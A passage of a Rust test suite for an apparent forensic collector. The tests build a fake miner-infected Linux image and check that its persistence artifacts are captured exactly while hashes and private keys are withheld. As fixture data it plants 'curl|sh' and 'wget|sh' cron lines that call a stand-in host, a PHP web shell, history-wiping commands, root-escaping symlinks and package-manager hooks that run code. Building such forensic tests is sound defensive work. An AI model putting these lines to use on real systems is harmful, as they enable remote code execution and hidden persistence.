//! Dead-box collection of a prepared image root: every planted persistence entry, key, history line,
//! preload entry and immutable bit must come back byte for byte with its metadata, nothing may leak from
//! outside the root, and secrets (shadow hashes, private keys) must not be in the bundle at all.

use std::os::unix::fs::{symlink, MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::Command;

use minetrace_schemas::bundle::member_name::fs_member;
use minetrace_schemas::bundle::{members, Bundle, ReadLimits};
use minetrace_schemas::records::account::PasswordState;
use minetrace_schemas::records::file::{FileKind, FileRecord};
use minetrace_schemas::records::host::CollectionMode;
use minetrace_schemas::records::package::PackageVerdict;
use minetrace_schemas::records::RecordSetV1;
use sha2::Digest;

const SHADOW_HASH: &str = "$6$planted$Zm9vYmFyYmF6cXV4cXV1eHF1dXhxdXV4cXV1eA";
const PRIVATE_KEY: &str = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA-planted-private\n-----END OPENSSH PRIVATE KEY-----\n";
const OUTSIDE_SECRET: &str = "outside-the-root-must-never-be-read-7c1e";
const MDRFCKR_KEY: &str =
    "ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwplanted mdrfckr\n";
const FAKE_ELF: &[u8] = b"\x7fELF\x02\x01\x01\x00planted-miner-binary";

fn put(root: &Path, path: &str, bytes: impl AsRef<[u8]>) -> PathBuf {
    let p = root.join(path.trim_start_matches('/'));
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(&p, bytes).unwrap();
    p
}

fn link(root: &Path, path: &str, target: &str) {
    let p = root.join(path.trim_start_matches('/'));
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    symlink(target, p).unwrap();
}

fn chattr(flag: &str, path: &Path) {
    let ok = Command::new("chattr")
        .arg(flag)
        .arg(path)
        .status()
        .expect("chattr (e2fsprogs) is required")
        .success();
    assert!(
        ok,
        "chattr {flag} {path:?} failed: the temp dir must be on a filesystem with inode flags"
    );
}

struct Collected {
    bundle: Bundle,
    files: Vec<FileRecord>,
}

impl Collected {
    fn file(&self, path: &str) -> &FileRecord {
        self.files
            .iter()
            .find(|f| f.path.as_bytes() == path.as_bytes())
            .unwrap_or_else(|| panic!("no record for {path}"))
    }

    fn content(&self, path: &str) -> &[u8] {
        let rec = self.file(path);
        let member = rec
            .member
            .as_deref()
            .unwrap_or_else(|| panic!("no content for {path}: {rec:?}"));
        let bytes = self.bundle.member(member).unwrap();
        // Stored under its own path, or (the same bytes met before) pointing at the earlier copy.
        if member != fs_member(path.as_bytes()) {
            let sha = hex::encode(sha2::Sha256::digest(bytes));
            assert_eq!(rec.sha256.as_deref(), Some(sha.as_str()), "{path}: {rec:?}");
        }
        bytes
    }
}

fn collect(root: &Path, out_dir: &Path, extra: &[&str]) -> Collected {
    let out = out_dir.join("bundle.tar.zst");
    let status = Command::new(env!("CARGO_BIN_EXE_minetrace-collect"))
        .arg("--root")
        .arg(root)
        .arg("-o")
        .arg(&out)
        .args(["--threads", "0"])
        .args(extra)
        .status()
        .unwrap();
    assert!(status.success());
    let bundle = Bundle::open(&out, ReadLimits::default())
        .unwrap()
        .verified()
        .unwrap();
    let files = match bundle.records(members::FILES).unwrap() {
        Some(RecordSetV1::Files(f)) => f,
        other => panic!("files record: {other:?}"),
    };
    Collected { bundle, files }
}

/// Builds the image. Returns (tempdir holding root + outside, root).
fn image() -> (tempfile::TempDir, PathBuf) {
    let dir = tempfile::tempdir_in(
        std::env::var_os("MINETRACE_TEST_TMP")
            .map(PathBuf::from)
            .unwrap_or_else(std::env::temp_dir),
    )
    .unwrap();
    let r = dir.path().join("root");
    std::fs::create_dir_all(&r).unwrap();
    put(dir.path(), "outside/secret.txt", OUTSIDE_SECRET);
    let outside = dir.path().join("outside/secret.txt");

    put(&r, "/etc/passwd", "root:x:0:0:root:/root:/bin/bash\ngames:x:5:60:games:/usr/games:/usr/games/sbin/nologin\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\n");
    put(&r, "/etc/shadow", format!("root:{SHADOW_HASH}:19500:0:99999:7:::\ngames:{SHADOW_HASH}:20001:0:99999:7:::\nwww-data:*:19000:0:99999:7:::\n"));
    put(&r, "/etc/sudoers.d/games", "games ALL=(ALL) NOPASSWD:ALL\n");
    // Scheduling.
    put(
        &r,
        "/etc/crontab",
        "*/5 * * * * root /usr/bin/.update startup\n",
    );
    let pwnrig = put(&r, "/etc/cron.d/pwnrig", "*/10 * * * * root /bin/sysdr\n");
    chattr("+i", &pwnrig);
    let big: String = (0..10_000)
        .map(|i| {
            format!(
                "{} * * * * curl -fsSL http://127.66.0.1/{i}.sh | sh\n",
                i % 60
            )
        })
        .collect();
    put(&r, "/var/spool/cron/crontabs/root", &big);
    put(&r, "/var/spool/cron/crontabs/redis", b"REDIS0009\xfa\tredis-ver\x056.0.0\n\n*/1 * * * * wget -q -O- http://127.66.0.1/unk.sh | sh\n\n\xff");
    link(&r, "/etc/cron.d/evil", "../../../../../../../../etc/shadow");
    // Links that try to leave the root, named explicitly (followed) and met in walks (recorded only).
    link(
        &r,
        "/etc/anacrontab",
        "../../../../../../outside/secret.txt",
    );
    link(&r, "/etc/cron.allow", outside.to_str().unwrap());
    link(&r, "/etc/cron.hourly/escape", outside.to_str().unwrap());
    // Services.
    put(
        &r,
        "/etc/systemd/system/bot.service",
        "[Service]\nExecStart=/etc/data/kinsing\nRestart=always\n",
    );
    put(
        &r,
        "/etc/systemd/system/pwnrige.timer",
        "[Timer]\nOnBootSec=1min\n",
    );
    link(
        &r,
        "/etc/systemd/system/multi-user.target.wants/bot.service",
        "/etc/systemd/system/bot.service",
    );
    put(
        &r,
        "/etc/rc.local",
        "#!/bin/sh\n/usr/bin/.update startup &\nexit 0\n",
    );
    put(&r, "/etc/init.d/pwnrig", "#!/bin/sh\n/bin/initdr\n");
    link(&r, "/etc/rc3.d/S90pwnrig", "../init.d/pwnrig");
    put(
        &r,
        "/etc/udev/rules.d/99-x.rules",
        "ACTION==\"add\", RUN+=\"/tmp/.x/run\"\n",
    );
    put(
        &r,
        "/etc/modprobe.d/x.conf",
        "install usb-storage /bin/sh /tmp/.x/run\n",
    );
    // Loader.
    put(&r, "/etc/ld.so.preload", "/etc/data/libsystem.so\n");
    put(&r, "/etc/data/libsystem.so", FAKE_ELF);
    put(&r, "/etc/profile.d/x.sh", "export HISTFILE=/dev/null\n");
    // SSH.
    put(&r, "/etc/ssh/sshd_config", format!("Include /etc/ssh/sshd_config.d/*.conf\nInclude {}\nAuthorizedKeysFile .ssh/authorized_keys /etc/ssh/keys/%u\n", outside.display()));
    put(
        &r,
        "/etc/ssh/sshd_config.d/10-tnt.conf",
        "PermitRootLogin yes\nPasswordAuthentication yes\n",
    );
    put(&r, "/etc/ssh/keys/games", MDRFCKR_KEY);
    put(&r, "/etc/ssh/ssh_host_ed25519_key", PRIVATE_KEY);
    put(
        &r,
        "/etc/ssh/ssh_host_ed25519_key.pub",
        "ssh-ed25519 AAAAhostkey root@host\n",
    );
    let ak = put(&r, "/root/.ssh/authorized_keys", MDRFCKR_KEY);
    chattr("+a", &ak);
    put(&r, "/root/.ssh/id_rsa", PRIVATE_KEY);
    std::fs::set_permissions(
        r.join("root/.ssh/id_rsa"),
        std::fs::Permissions::from_mode(0o600),
    )
    .unwrap();
    put(
        &r,
        "/root/.ssh/known_hosts",
        "10.0.0.5 ssh-ed25519 AAAAknown\n",
    );
    put(&r, "/usr/games/.ssh/authorized_keys2", MDRFCKR_KEY);
    // Shell start-up and histories.
    put(
        &r,
        "/root/.bashrc",
        "alias ls='ls --color'\nexport HISTFILE=~/.hist_custom\n",
    );
    put(
        &r,
        "/root/.bash_history",
        "cd ~; chattr -ia .ssh; lockr -ia .ssh\nwget 127.66.0.1/.balu -O /tmp/cache\n",
    );
    put(
        &r,
        "/root/.hist_custom",
        "history -c; rm -rf ~/.bash_history\n",
    );
    // Temp and hidden places.
    put(&r, "/tmp/.X25-unix/.rsync/c/tsm", FAKE_ELF);
    put(&r, "/tmp/kdevtmpfsi", FAKE_ELF);
    put(&r, "/tmp/notes.txt", "not a binary");
    put(
        &r,
        "/root/.configrc/a/upd",
        "#!/bin/sh\ncd ~/.configrc/a && ./run\n",
    );
    std::fs::hard_link(r.join("tmp/kdevtmpfsi"), r.join("tmp/kdevtmpfsi206653195")).unwrap();
    let fifo =
        std::ffi::CString::new(r.join("tmp/pipe").into_os_string().into_encoded_bytes()).unwrap();
    // SAFETY: mkfifo on a path inside the test's temp dir.
    assert_eq!(unsafe { libc_mkfifo(fifo.as_ptr(), 0o644) }, 0);
    link(&r, "/tmp/loop", "/tmp/loop");
    // Logs.
    let mut auth = Vec::new();
    for i in 0..40_000 {
        auth.extend_from_slice(format!("Nov 26 06:{:02}:00 host sshd[{i}]: Failed password for root from 127.0.0.{} port 22 ssh2\n", i % 60, i % 250).as_bytes());
    }
    put(&r, "/var/log/auth.log", &auth);
    put(&r, "/var/log/wtmp", vec![7u8; 384 * 3]);
    // Firewall and network.
    put(
        &r,
        "/etc/iptables/rules.v4",
        "*filter\n-A OUTPUT -d 127.66.0.1/32 -j ACCEPT\nCOMMIT\n",
    );
    put(
        &r,
        "/etc/hosts",
        "127.0.0.1 localhost\n0.0.0.0 pool.rival.example\n",
    );
    // Web root.
    put(&r, "/var/www/html/index.html", "<html></html>");
    put(
        &r,
        "/var/www/html/uploads/x.php",
        "<?php system($_GET['c']); ?>",
    );
    // Packages: a dpkg database that disagrees with one binary.
    put(&r, "/usr/bin/ps", "replaced ps");
    put(&r, "/usr/bin/top", "genuine top");
    put(
        &r,
        "/var/lib/dpkg/info/procps.md5sums",
        format!(
            "{}  usr/bin/ps\n{}  usr/bin/top\n",
            md5_hex(b"genuine ps"),
            md5_hex(b"genuine top")
        ),
    );
    put(
        &r,
        "/var/lib/dpkg/info/procps.list",
        "/usr/bin/ps\n/usr/bin/top\n",
    );
    // An admin's hardening of root's home: no file may be added to or removed from it.
    chattr("+i", &r.join("root"));
    (dir, r)
}

extern "C" {
    #[link_name = "mkfifo"]
    fn libc_mkfifo(path: *const std::ffi::c_char, mode: u32) -> i32;
}

fn md5_hex(data: &[u8]) -> String {
    let out = Command::new("md5sum")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .and_then(|mut c| {
            use std::io::Write;
            c.stdin.take().unwrap().write_all(data)?;
            c.wait_with_output()
        })
        .unwrap();
    String::from_utf8(out.stdout)
        .unwrap()
        .split_whitespace()
        .next()
        .unwrap()
        .to_owned()
}

/// Clears the planted inode flags when the test ends, pass or fail, so the temp dir can be removed.
struct Unchattr(PathBuf);

impl Drop for Unchattr {
    fn drop(&mut self) {
        for p in ["root", "etc/cron.d/pwnrig", "root/.ssh/authorized_keys"] {
            let _ = Command::new("chattr")
                .arg("-ia")
                .arg(self.0.join(p))
                .status();
        }
    }
}

#[test]
fn dead_box_collects_every_planted_artifact() {
    let (dir, r) = image();
    let _unchattr = Unchattr(r.clone());
    let c = collect(&r, dir.path(), &["--max-log-mib", "1"]);

    // Manifest says dead-box, and no host tool ran.
    assert_eq!(c.bundle.manifest.mode, CollectionMode::DeadBox);
    assert!(c.bundle.manifest.root.is_some());
    assert!(c
        .bundle
        .manifest
        .exclusions
        .iter()
        .any(|e| e.contains("dead-box")));
    match c.bundle.records(members::COMMANDS).unwrap() {
        Some(RecordSetV1::Commands(cmds)) => assert!(cmds.is_empty(), "{cmds:?}"),
        other => panic!("{other:?}"),
    }

    // Scheduling, byte for byte, with metadata and the immutable bit.
    assert_eq!(
        c.content("/etc/crontab"),
        b"*/5 * * * * root /usr/bin/.update startup\n"
    );
    let pwnrig = c.file("/etc/cron.d/pwnrig");
    assert_eq!(pwnrig.category, "cron");
    assert!(pwnrig.immutable && !pwnrig.append_only, "{pwnrig:?}");
    let real = std::fs::metadata(r.join("etc/cron.d/pwnrig")).unwrap();
    assert_eq!(
        (pwnrig.ino, pwnrig.mode, pwnrig.size),
        (real.ino(), real.mode(), real.len())
    );
    assert_eq!(
        (pwnrig.mtime.secs, pwnrig.ctime.secs),
        (real.mtime(), real.ctime())
    );
    assert!(pwnrig.btime.is_some(), "ext4 gives birth times");
    assert_eq!(pwnrig.sha256.as_deref().map(str::len), Some(64));
    let big = c.content("/var/spool/cron/crontabs/root");
    assert_eq!(big.iter().filter(|b| **b == b'\n').count(), 10_000);
    assert!(!c.file("/var/spool/cron/crontabs/root").truncated);
    assert!(c
        .content("/var/spool/cron/crontabs/redis")
        .starts_with(b"REDIS0009"));
    let evil = c.file("/etc/cron.d/evil");
    assert_eq!(
        (evil.kind, evil.member.as_deref()),
        (FileKind::Symlink, None)
    );

    // Services and start-up.
    assert_eq!(
        c.content("/etc/systemd/system/bot.service"),
        b"[Service]\nExecStart=/etc/data/kinsing\nRestart=always\n"
    );
    assert_eq!(
        c.file("/etc/systemd/system/pwnrige.timer").category,
        "systemd"
    );
    let wants = c.file("/etc/systemd/system/multi-user.target.wants/bot.service");
    assert_eq!(wants.kind, FileKind::Symlink);
    assert_eq!(
        wants.link_target.as_ref().unwrap().as_bytes(),
        b"/etc/systemd/system/bot.service"
    );
    assert_eq!(c.file("/etc/rc.local").category, "startup");
    assert_eq!(
        c.file("/etc/rc3.d/S90pwnrig")
            .link_target
            .as_ref()
            .unwrap()
            .as_bytes(),
        b"../init.d/pwnrig"
    );
    assert!(c.content("/etc/init.d/pwnrig").ends_with(b"/bin/initdr\n"));
    assert_eq!(c.file("/etc/udev/rules.d/99-x.rules").category, "udev");
    assert_eq!(c.file("/etc/modprobe.d/x.conf").category, "modules");

    // Loader: the preload entry and the library it names.
    assert_eq!(c.content("/etc/ld.so.preload"), b"/etc/data/libsystem.so\n");
    assert_eq!(c.file("/etc/ld.so.preload").category, "loader");
    assert_eq!(c.content("/etc/data/libsystem.so"), FAKE_ELF);

    // SSH: config and includes, keys from every place, private keys withheld.
    assert!(c
        .content("/etc/ssh/sshd_config.d/10-tnt.conf")
        .starts_with(b"PermitRootLogin yes"));
    assert_eq!(c.content("/etc/ssh/keys/games"), MDRFCKR_KEY.as_bytes());
    assert_eq!(
        c.content("/usr/games/.ssh/authorized_keys2"),
        MDRFCKR_KEY.as_bytes()
    );
    let ak = c.file("/root/.ssh/authorized_keys");
    assert_eq!(
        (ak.category.as_str(), ak.append_only, ak.immutable),
        ("ssh", true, false)
    );
    // Review of train 3, item 4: the directory of every file a remediation may edit in place is recorded
    // with its inode flags (the script sets again only a lock the snapshot saw): /root's lock, /etc's
    // absence of one, the crontab spool's and the key directory's.
    for (dir, locked) in [
        ("/root", true),
        ("/etc", false),
        ("/root/.ssh", false),
        ("/var/spool/cron/crontabs", false),
    ] {
        let d = c.file(dir);
        assert_eq!(
            (d.kind, d.flags.is_some(), d.immutable),
            (FileKind::Directory, true, locked),
            "{dir}: {d:?}"
        );
    }
    assert_eq!(
        c.content("/root/.ssh/authorized_keys"),
        MDRFCKR_KEY.as_bytes()
    );
    let id = c.file("/root/.ssh/id_rsa");
    assert!(id.member.is_none() && id.sha256.is_some(), "{id:?}");
    assert_eq!(id.mode & 0o777, 0o600);
    assert!(c.file("/etc/ssh/ssh_host_ed25519_key").member.is_none());
    assert_eq!(
        c.content("/etc/ssh/ssh_host_ed25519_key.pub"),
        b"ssh-ed25519 AAAAhostkey root@host\n"
    );

    // Histories, HISTFILE included; HISTFILE=/dev/null is absent from the image and not an error.
    assert!(c
        .content("/root/.bash_history")
        .starts_with(b"cd ~; chattr -ia .ssh"));
    assert_eq!(
        c.content("/root/.hist_custom"),
        b"history -c; rm -rf ~/.bash_history\n"
    );
    assert_eq!(c.file("/root/.bash_history").category, "history");

    // Accounts: passwd whole, shadow only as derived records.
    assert!(c.content("/etc/passwd").starts_with(b"root:x:0:0"));
    assert!(c
        .content("/etc/sudoers.d/games")
        .starts_with(b"games ALL=(ALL) NOPASSWD:ALL"));
    let shadow_rec = c.file("/etc/shadow");
    assert!(shadow_rec.member.is_none() && shadow_rec.sha256.is_none());
    match c.bundle.records(members::SHADOW).unwrap() {
        Some(RecordSetV1::Shadow(s)) => {
            let games = s.iter().find(|e| e.user.as_bytes() == b"games").unwrap();
            assert_eq!(
                (games.password, games.last_change_days),
                (PasswordState::Usable, Some(20001))
            );
            let www = s.iter().find(|e| e.user.as_bytes() == b"www-data").unwrap();
            assert_eq!(www.password, PasswordState::Disabled);
        }
        other => panic!("{other:?}"),
    }

    // Logs: tail-bounded to the cap, exact bytes of the tail.
    let log = c.file("/var/log/auth.log");
    assert!(log.truncated);
    assert_eq!(c.content("/var/log/auth.log"), &auth_tail(&r, 1 << 20)[..]);
    assert_eq!(c.content("/var/log/wtmp").len(), 384 * 3);

    // Temp places: ELF and scripts copied, hard links stored once, other files and FIFOs listed.
    assert_eq!(c.content("/tmp/.X25-unix/.rsync/c/tsm"), FAKE_ELF);
    assert_eq!(c.file("/tmp/.X25-unix/.rsync/c/tsm").category, "temp");
    let k1 = c.file("/tmp/kdevtmpfsi");
    let k2 = c.file("/tmp/kdevtmpfsi206653195");
    assert_eq!(k1.member, k2.member);
    assert!(c.file("/tmp/notes.txt").member.is_none());
    assert_eq!(c.file("/tmp/pipe").kind, FileKind::Fifo);
    assert_eq!(c.file("/tmp/loop").kind, FileKind::Symlink);
    assert!(c.content("/root/.configrc/a/upd").starts_with(b"#!/bin/sh"));

    // Firewall, network, web root.
    assert_eq!(c.file("/etc/iptables/rules.v4").category, "firewall");
    assert!(c
        .content("/etc/hosts")
        .ends_with(b"0.0.0.0 pool.rival.example\n"));
    assert_eq!(c.file("/var/www/html/uploads/x.php").category, "webroot");
    assert_eq!(
        c.content("/var/www/html/uploads/x.php"),
        b"<?php system($_GET['c']); ?>"
    );
    assert!(c
        .files
        .iter()
        .all(|f| f.path.as_bytes() != b"/var/www/html/index.html"));

    // Packages: the replaced ps is a mismatch, top matches.
    match c.bundle.records(members::PACKAGES).unwrap() {
        Some(RecordSetV1::Packages(p)) => {
            let ps = p
                .iter()
                .find(|x| x.path.as_bytes() == b"/usr/bin/ps")
                .unwrap();
            assert_eq!(
                (ps.verdict, ps.package.as_deref()),
                (PackageVerdict::Mismatch, Some("procps"))
            );
            assert_eq!(
                ps.actual_digest.as_ref().map(|d| d.hex.as_str()),
                Some(md5_hex(b"replaced ps").as_str())
            );
            let top = p
                .iter()
                .find(|x| x.path.as_bytes() == b"/usr/bin/top")
                .unwrap();
            assert_eq!(top.verdict, PackageVerdict::Match);
        }
        other => panic!("{other:?}"),
    }

    // Nothing from outside the root, no hash, no private key, anywhere in the bundle.
    for name in c.bundle.member_names() {
        let bytes = c.bundle.member(name).unwrap();
        for needle in [
            OUTSIDE_SECRET.as_bytes(),
            SHADOW_HASH.as_bytes(),
            b"planted-private",
        ] {
            assert!(
                !bytes.windows(needle.len()).any(|w| w == needle),
                "{name} leaks {:?}",
                String::from_utf8_lossy(needle)
            );
        }
    }
    let anacrontab = c.file("/etc/anacrontab");
    assert_eq!(anacrontab.kind, FileKind::Symlink);
    assert!(c.files.iter().all(|f| !f
        .path
        .as_bytes()
        .starts_with(dir.path().as_os_str().as_encoded_bytes())));
}

fn auth_tail(root: &Path, cap: usize) -> Vec<u8> {
    let all = std::fs::read(root.join("var/log/auth.log")).unwrap();
    all[all.len() - cap..].to_vec()
}

#[test]
fn a_2gb_log_costs_only_its_tail() {
    // A 2 GB sparse log: only the tail cap is read, fast.
    let dir = tempfile::tempdir().unwrap();
    let r = dir.path().join("root");
    let log = put(&r, "/var/log/syslog", b"");
    let f = std::fs::OpenOptions::new().write(true).open(&log).unwrap();
    f.set_len(2 << 30).unwrap();
    drop(f);
    {
        use std::io::{Seek, SeekFrom, Write};
        let mut f = std::fs::OpenOptions::new().write(true).open(&log).unwrap();
        f.seek(SeekFrom::End(-6)).unwrap();
        f.write_all(b"last!\n").unwrap();
    }
    put(&r, "/etc/passwd", "root:x:0:0::/root:/bin/sh\n");
    let started = std::time::Instant::now();
    let c = collect(&r, dir.path(), &["--max-log-mib", "1"]);
    assert!(started.elapsed() < std::time::Duration::from_secs(30));
    let rec = c.file("/var/log/syslog");
    assert!(rec.truncated);
    assert_eq!(rec.size, 2 << 30);
    let content = c.content("/var/log/syslog");
    assert_eq!(content.len(), 1 << 20);
    assert!(content.ends_with(b"last!\n"));
}

/// Persistence configuration a package ships is package-checked (lead, 16:12: the analyzer's "a package
/// owns this unit / APT hook" had no data on real bundles): a vendor unit as dpkg installed it matches, an
/// edited one mismatches; a conffile's digest comes from `/var/lib/dpkg/status` (dpkg keeps none in
/// `md5sums`), untouched -> Match, a kit line appended -> Mismatch; the kit's own unit and cron file are
/// known unowned.
#[test]
fn persistence_configuration_is_package_checked() {
    let dir = tempfile::tempdir().unwrap();
    let r = dir.path().join("root");
    put(&r, "/etc/passwd", "root:x:0:0::/root:/bin/sh\n");
    let cron_unit = "[Service]\nExecStart=/usr/sbin/cron -f\n";
    let ssh_unit = "[Service]\nExecStart=/usr/sbin/sshd -D\n";
    let sysstat = "5-55/10 * * * * root command -v debian-sa1 > /dev/null && debian-sa1 1 1\n";
    let e2scrub =
        "30 3 * * 0 root test -e /run/systemd/system || /usr/lib/e2fsprogs/e2scrub_all_cron\n";
    put(&r, "/lib/systemd/system/cron.service", cron_unit);
    put(
        &r,
        "/lib/systemd/system/ssh.service",
        "[Service]\nExecStart=/bin/sh -c '/tmp/.x/run & exec /usr/sbin/sshd -D'\n",
    );
    put(&r, "/etc/cron.d/sysstat", sysstat);
    put(
        &r,
        "/etc/cron.d/e2scrub_all",
        format!("{e2scrub}*/5 * * * * root /tmp/.x/run\n"),
    );
    put(&r, "/etc/cron.d/kit", "*/5 * * * * root /tmp/.x/run\n");
    put(
        &r,
        "/etc/systemd/system/kit.service",
        "[Service]\nExecStart=/tmp/.x/run\n",
    );
    put(
        &r,
        "/var/lib/dpkg/info/cron.list",
        "/lib/systemd/system/cron.service\n/etc/cron.d/sysstat\n",
    );
    put(
        &r,
        "/var/lib/dpkg/info/cron.md5sums",
        format!(
            "{}  lib/systemd/system/cron.service\n",
            md5_hex(cron_unit.as_bytes())
        ),
    );
    put(
        &r,
        "/var/lib/dpkg/info/openssh-server.list",
        "/lib/systemd/system/ssh.service\n",
    );
    put(
        &r,
        "/var/lib/dpkg/info/openssh-server.md5sums",
        format!(
            "{}  lib/systemd/system/ssh.service\n",
            md5_hex(ssh_unit.as_bytes())
        ),
    );
    put(
        &r,
        "/var/lib/dpkg/info/e2fsprogs.list",
        "/etc/cron.d/e2scrub_all\n",
    );
    put(
        &r,
        "/var/lib/dpkg/status",
        format!(
            "Package: cron\nStatus: install ok installed\nConffiles:\n /etc/cron.d/sysstat {}\n /etc/cron.d/gone newconffile\nDescription: x\n\nPackage: e2fsprogs\nStatus: install ok installed\nConffiles:\n /etc/cron.d/e2scrub_all {} obsolete\n",
            md5_hex(sysstat.as_bytes()),
            md5_hex(e2scrub.as_bytes())
        ),
    );
    let c = collect(&r, dir.path(), &[]);
    let checks = match c.bundle.records(members::PACKAGES).unwrap() {
        Some(RecordSetV1::Packages(p)) => p,
        other => panic!("{other:?}"),
    };
    let verdict = |path: &str| {
        let check = checks
            .iter()
            .find(|x| x.path.as_bytes() == path.as_bytes())
            .unwrap_or_else(|| panic!("no package check of {path}: {checks:#?}"));
        assert_eq!(check.reason, "persistence-config", "{path}");
        (check.verdict, check.package.clone())
    };
    for (path, want, package) in [
        (
            "/lib/systemd/system/cron.service",
            PackageVerdict::Match,
            "cron",
        ),
        (
            "/lib/systemd/system/ssh.service",
            PackageVerdict::Mismatch,
            "openssh-server",
        ),
        ("/etc/cron.d/sysstat", PackageVerdict::Match, "cron"),
        (
            "/etc/cron.d/e2scrub_all",
            PackageVerdict::Mismatch,
            "e2fsprogs",
        ),
    ] {
        assert_eq!(verdict(path), (want, Some(package.to_owned())), "{path}");
    }
    for kit in ["/etc/cron.d/kit", "/etc/systemd/system/kit.service"] {
        assert_eq!(verdict(kit), (PackageVerdict::NotOwned, None));
    }
}

/// A RHEL-family image: the rpm database (written by rpm, see `tests/fixtures/rpmdb/make.sh`) feeds
/// ownership and digests, and the RHEL layouts come back: spool crontab by user name, `secure` and `cron`
/// with dated rotations, sysconfig iptables, firewalld zones and direct rules, `/etc/rc.d/rc.local`,
/// dnf history, SELinux config, vendor units under `/usr/lib/systemd`, and whole journal files.
#[test]
fn dead_box_rhel_layouts_and_rpm_database() {
    let dir = tempfile::tempdir().unwrap();
    let r = dir.path().join("root");
    let fixtures = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/rpmdb/sqlite");
    for f in ["rpmdb.sqlite", "rpmdb.sqlite-wal"] {
        put(
            &r,
            &format!("/var/lib/rpm/{f}"),
            std::fs::read(format!("{fixtures}/{f}")).unwrap(),
        );
    }
    // The files as the fixture packages installed them (make.sh), ps replaced.
    let ps = put(&r, "/usr/bin/ps", b"\x7fELF replaced by an attacker\n");
    std::fs::set_permissions(&ps, std::fs::Permissions::from_mode(0o755)).unwrap();
    put(&r, "/usr/bin/top", b"#!/bin/sh\necho procps top\n");
    put(&r, "/usr/sbin/sshd", b"#!/bin/sh\necho sshd\n");
    put(
        &r,
        "/var/spool/cron/root",
        b"* * * * * curl -fsSL http://127.66.0.1/x | sh\n",
    );
    put(
        &r,
        "/var/log/secure",
        b"Mar  3 04:05:06 el9 sshd[99]: Failed password for root from 127.9.9.9 port 4242 ssh2\n",
    );
    put(
        &r,
        "/var/log/secure-20240303",
        b"Mar  2 04:05:06 el9 sshd[98]: Accepted password for ops from 127.9.9.8 port 4243 ssh2\n",
    );
    put(
        &r,
        "/var/log/cron",
        b"Mar  3 04:06:01 el9 CROND[7]: (root) CMD (curl -fsSL http://127.66.0.1/x | sh)\n",
    );
    put(
        &r,
        "/etc/sysconfig/iptables",
        b"*filter\n-A INPUT -s 127.100.0.0/16 -j DROP\nCOMMIT\n",
    );
    put(&r, "/etc/firewalld/direct.xml", b"<?xml version=\"1.0\"?>\n<direct><rule ipv=\"ipv4\" table=\"filter\" chain=\"OUTPUT\" priority=\"0\">-d 127.100.0.1 -j DROP</rule></direct>\n");
    put(
        &r,
        "/etc/firewalld/zones/public.xml",
        b"<zone><service name=\"ssh\"/></zone>\n",
    );
    put(
        &r,
        "/etc/rc.d/rc.local",
        b"#!/bin/bash\n/var/tmp/.x/kthreadd &\n",
    );
    put(
        &r,
        "/etc/selinux/config",
        b"SELINUX=disabled\nSELINUXTYPE=targeted\n",
    );
    link(&r, "/etc/sysconfig/selinux", "../selinux/config");
    put(
        &r,
        "/var/lib/dnf/history.sqlite",
        b"SQLite format 3\0dnf history stand-in",
    );
    put(
        &r,
        "/usr/lib/systemd/system/sshd.service",
        b"[Service]\nExecStart=/usr/sbin/sshd -D\n",
    );
    let journal = b"LPKSHHRH journal stand-in: copied whole, never parsed by the collector";
    put(
        &r,
        "/var/log/journal/0123456789abcdef0123456789abcdef/system.journal",
        journal,
    );
    // What dnf, yum and rpm run as root at a reinstall (issue 13): stored for the analyst.
    let hooks = [
        ("/etc/dnf/dnf.conf", "[main]\npluginpath=/var/tmp/.p\n"),
        ("/etc/dnf/plugins/evil.conf", "[main]\nenabled=1\n"),
        (
            "/etc/dnf/plugins/post-transaction-actions.d/x.action",
            "*:any:/bin/sh -c 'curl -s http://127.66.0.1/x|sh'\n",
        ),
        ("/etc/yum/pluginconf.d/evil.conf", "[main]\nenabled=1\n"),
        (
            "/etc/rpm/macros.zz",
            "%__transaction_zz /var/tmp/.x/zz.so\n",
        ),
        ("/root/.rpmmacros", "%_dbpath %(id)/var/lib/rpm\n"),
        (
            "/usr/lib/rpm/macros.d/macros.zz",
            "%__transaction_zz /var/tmp/.x/zz.so\n",
        ),
        (
            "/usr/lib/python3.9/site-packages/zz.pth",
            "import os; os.system('id')\n",
        ),
        (
            "/usr/lib/python3.9/site-packages/dnf-plugins/zz.py",
            "import dnf\n",
        ),
    ];
    for (path, text) in hooks {
        put(&r, path, text);
    }

    let c = collect(&r, dir.path(), &[]);
    for (path, text) in hooks {
        assert_eq!(c.file(path).category, "package-hooks", "{path}");
        assert_eq!(c.content(path), text.as_bytes(), "{path}");
    }
    for (path, want) in [
        ("/var/spool/cron/root", "cron"),
        ("/var/log/secure", "log"),
        ("/var/log/secure-20240303", "log"),
        ("/var/log/cron", "log"),
        ("/etc/sysconfig/iptables", "firewall"),
        ("/etc/firewalld/direct.xml", "firewall"),
        ("/etc/firewalld/zones/public.xml", "firewall"),
        ("/etc/rc.d/rc.local", "startup"),
        ("/etc/selinux/config", "selinux"),
        ("/var/lib/dnf/history.sqlite", "package-history"),
        ("/usr/lib/systemd/system/sshd.service", "systemd"),
        (
            "/var/log/journal/0123456789abcdef0123456789abcdef/system.journal",
            "journal",
        ),
    ] {
        assert_eq!(c.file(path).category, want, "{path}");
        assert!(!c.content(path).is_empty(), "{path}");
    }
    assert_eq!(
        c.content("/var/log/journal/0123456789abcdef0123456789abcdef/system.journal"),
        journal
    );

    match c.bundle.records(members::PACKAGES).unwrap() {
        Some(RecordSetV1::Packages(p)) => {
            let get = |path: &str| {
                p.iter()
                    .find(|x| x.path.as_bytes() == path.as_bytes())
                    .unwrap()
            };
            let ps = get("/usr/bin/ps");
            assert_eq!(ps.verdict, PackageVerdict::Mismatch);
            assert_eq!(
                ps.package.as_deref(),
                Some("mt-procps-3.3.17-14.el9.x86_64")
            );
            assert_eq!(
                ps.manager,
                Some(minetrace_schemas::records::package::PackageManager::Rpm)
            );
            assert_eq!(get("/usr/bin/top").verdict, PackageVerdict::Match);
            assert_eq!(get("/usr/sbin/sshd").verdict, PackageVerdict::Match);
        }
        other => panic!("{other:?}"),
    }
    let index = c
        .bundle
